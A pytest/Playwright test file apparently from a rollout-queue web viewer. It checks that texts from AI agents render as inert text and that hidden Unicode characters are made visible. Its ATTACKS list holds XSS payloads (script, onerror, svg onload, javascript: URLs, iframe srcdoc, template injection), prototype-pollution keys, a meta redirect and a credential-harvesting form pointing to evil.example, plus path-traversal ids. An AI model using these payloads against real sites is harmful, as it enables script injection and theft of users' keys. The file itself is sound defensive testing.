"""Texts of agents are shown, and never obeyed: markup stays text, and hidden characters are visible."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from rollout_queue.contract.records import Verdict
from tests.support.gateway.running import Backends
from tests.support.page.browser import Tab
from tests.support.page.deployment import ShownDeployment, shown_deployment
from tests.support.page.learned import HOSTILE, end, put_turn

ATTACKS = [
    HOSTILE,
    "<script>window.struck = 1</script>",
    "<img src=x onerror='window.struck=1'>",
    "<svg onload=window.struck=1><a xlink:href='javascript:window.struck=1'>x</a></svg>",
    "javascript:window.struck=1",
    "'\"><iframe srcdoc='<script>parent.struck=1</script>'>",
    "&lt;b&gt; ${window.struck=1} {{constructor.constructor('window.struck=1')()}}",
    "<style>*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=api_key><button>go</button></form>",
    "__proto__",
]
IDS = ["javascript:window.struck=1", "..%2F", "a+b=c~d@e:f", "__proto__", "constructor", "-0"]


@pytest.fixture(scope="module")
def hostile(backends: Backends) -> Iterator[ShownDeployment]:
    with shown_deployment(backends, servers=1) as shown:
        for number, text in enumerate(ATTACKS):
            name = f"attack-{number}"
            metadata = {text[:200]: text, "__proto__": {"x": text}}
            shown.gateway.session(session_id=name, metadata=metadata, user="u", group_id=f"g-{number}")
            more = {"side_call": text, "lineage": text, "reason": text, "engine": text}
            put_turn(shown, name, f"{name}-t", text, context=text, relation="forks", **more)
            shown.gateway.post(f"/sessions/{name}/reward", {"value": 1.0, "source": text[:100], "key": "k"})
            end(shown, name, 0.0, Verdict(code="invalid", detail=text))
        for name in IDS:
            if shown.gateway.post("/sessions", {"session_id": name, "task_id": name}).status_code == 201:
                put_turn(shown, name, f"{name}-t", "fine")
        yield shown


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_a_hostile_text_is_only_a_text(hostile: ShownDeployment, tab: Tab, number: int) -> None:
    page = tab(hostile.gateway.url).tab
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.evaluate("place => { location.hash = place }", f"#/sessions/attack-{number}?colour=verdict")
    expect(page.locator(".tokens")).to_be_visible()
    page.get_by_text("Metadata").click()
    expect(page.locator("pre")).to_contain_text("__proto__")
    main = page.locator("main")
    assert main.locator("img, script, iframe, form, style, meta, a[href^=javascript]").count() == 0
    assert page.evaluate("window.struck") is None
    assert page.evaluate("({}).x") is None
    assert "\u202e" not in main.inner_text()


def test_hidden_characters_are_visible(hostile: ShownDeployment, tab: Tab) -> None:
    page = tab(hostile.gateway.url).tab
    page.evaluate("place => { location.hash = place }", "#/sessions/attack-0")
    expect(page.locator(".tokens")).to_contain_text("[U+202E]")
    said = page.locator(".tokens").inner_text()
    for mark in ("[U+202E]", "[U+200B]", "␛", "␍", "⏎", "<img"):
        assert mark in said, mark


@pytest.mark.parametrize("name", IDS)
def test_odd_ids_lead_to_their_session(hostile: ShownDeployment, tab: Tab, name: str) -> None:
    if hostile.gateway.get(f"/sessions?id={name}").json()["data"] == []:
        pytest.skip("not an id that the gateway takes")
    page = tab(hostile.gateway.url).tab
    page.evaluate("place => { location.hash = place }", "#/sessions")
    page.get_by_role("link", name=name, exact=True).first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text(f"Session {name}")
    assert page.evaluate("window.struck") is None
